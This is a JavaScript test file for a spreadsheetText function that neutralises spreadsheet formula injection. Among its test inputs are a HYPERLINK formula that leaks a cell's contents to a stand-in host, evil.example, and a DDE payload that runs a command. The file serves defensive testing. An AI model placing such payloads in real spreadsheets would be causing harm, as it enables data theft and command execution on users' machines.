import fc from 'fast-check';
import { spreadsheetText } from './formula-injection';

describe('spreadsheetText', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '-',
    '+',
  ])('neutralises %j with a leading quote', (value) => {
    expect(spreadsheetText(value)).toBe(`'${value}`);
  });

  it.each(['-12.50', '+3', '42', '0,5', 'Jan Peeters', 'Rue de la Loi 16', '', "O'Brien", 'a=b'])('leaves %j as it is', (value) => {
    expect(spreadsheetText(value)).toBe(value);
  });

  it('never lets a text start with a formula character unless it is a plain number, and keeps the text after the quote', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const safe = spreadsheetText(value);
        expect(safe === value || safe === `'${value}`).toBe(true);
        if (/^[=+\-@\t\r]/.test(safe)) expect(safe).toMatch(/^[+-]?\d+(?:[.,]\d+)?$/);
      }),
    );
  });
});
